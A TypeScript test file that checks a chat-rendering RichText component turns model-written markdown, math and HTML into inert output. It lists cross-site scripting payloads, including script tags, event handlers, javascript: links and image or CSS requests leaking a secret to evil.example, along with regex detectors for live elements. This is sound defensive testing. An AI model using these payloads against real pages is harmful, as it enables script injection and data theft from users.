import fc from 'fast-check';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, test } from 'vitest';
import { loadFormulas, RichText } from './RichText.tsx';

const draw = (text: string, writing = false) => renderToStaticMarkup(createElement(RichText, { text, writing }));

/** What must be nowhere in what is drawn: elements that run or fetch, and attributes that do. */
const alive = [
  /<(?:script|img|iframe|object|embed|form|style|link|base|meta|video|audio|source|picture|button(?! type="button")|textarea|select)\b/i,
  /href="(?!https?:\/\/|mailto:)/i,
  /style="[^"]*(?:url|expression|@import)/i,
];

const aliveAttribute = /<[^>]+\s(?:on\w+|src|srcset|srcdoc|action|formaction|poster|background|ping|xlink:href)\s*=/i;

function findLife(html: string): string[] {
  const found = [...alive.map((pattern) => pattern.exec(html)), aliveAttribute.exec(html.replaceAll(/="[^"]*"/g, '=""'))];
  return found.flatMap((match) => match?.[0] ?? []);
}

const attacks = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="pwned()">',
  '<svg onload="pwned()"><a xlink:href="javascript:pwned()">x</a></svg>',
  '<iframe srcdoc="<script>pwned()</script>"></iframe>',
  '<style>body{background:url(https://evil.example/s)}</style>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<a href="https://evil.example" onclick="pwned()">x</a>',
  '[x](javascript:pwned) [x](JaVaScRiPt:pwned) [x](java&#09;script:pwned) [x](data:text/html,x) [x](vbscript:x) [x](file:///etc/passwd) [x](//evil.example) [x](#id)',
  '![pixel](https://evil.example/p.png?d=secret) ![x](data:image/svg+xml,x) ![x](javascript:pwned)',
  '![by reference][r]\n\n[r]: https://evil.example/p.png?d=secret',
  '[![nested](https://evil.example/n.png)](https://evil.example/go)',
  '```mermaid\ngraph TD; A-->B; click A "javascript:pwned()"\n```',
  '$$\\href{javascript:pwned}{x} \\includegraphics{https://evil.example/k.png} \\htmlStyle{background:url(x)}{y}$$',
  '&lt;img src=x onerror=pwned&gt; &#60;script&#62;pwned&#60;/script&#62;',
  '<details open ontoggle=pwned()><math><mtext><img src=x onerror=pwned()></mtext></math></details>',
  '[^1]\n\n[^1]: <img src=x onerror=pwned()>',
  '`<img src=x onerror=pwned()>`',
];

describe('what a model writes is drawn inert', () => {
  beforeAll(loadFormulas);

  test.each(attacks)('%s', (attack) => {
    expect(findLife(draw(attack))).toEqual([]);
    expect(findLife(draw(`Before.\n\n- ${attack}\n\n> ${attack}\n\n| a |\n| - |\n| ${attack} |`))).toEqual([]);
  });

  test('at every step of a stream, too', () => {
    const text = attacks.join('\n\n');
    for (let end = 1; end <= text.length; end += 11) expect(findLife(draw(text.slice(0, end), true))).toEqual([]);
  });

  test('any mixture of the pieces of attacks', () => {
    const piece = fc.constantFrom('<', '>', '"', '](', '![', 'javascript:', 'https://evil.example', 'img src=x', ' onerror=x', '<script>', '$$', '`', '```', '\n', '&#60;', '|', '- ', ')', '\\href{', '}', 'x', ' ');
    fc.assert(fc.property(fc.array(piece, { maxLength: 40 }), fc.boolean(), (pieces, writing) => {
      expect(findLife(draw(pieces.join(''), writing))).toEqual([]);
    }), { numRuns: 300 });
  });

  test('raw HTML is shown as the text that it is', () => {
    expect(draw('<b onclick=x>bold</b>')).toContain('&lt;b onclick=x&gt;');
  });

  test('a picture is a link that says where it goes', () => {
    const html = draw('![a chart](https://evil.example/p.png?d=secret)');
    expect(html).toContain('href="https://evil.example/p.png?d=secret"');
    expect(html).toContain('a chart');
    expect(html).toContain('evil.example/p.png?d=secret)');
  });

  test('links tell nobody where one came from, and open beside', () => {
    expect(draw('[here](https://example.org/a)')).toMatch(/target="_blank" rel="noopener noreferrer nofollow"/);
    expect(draw('[here](https://example.org/a)')).toContain('(example.org)');
  });

  test('formulas, tables and code are drawn', () => {
    expect(draw('\\(a^2\\)')).toContain('katex');
    expect(draw('| a |\n| - |\n| 1 |')).toContain('<td>1</td>');
    expect(draw('```ts\nlet a = 1;\n```')).toContain('let a = 1;');
  });
});
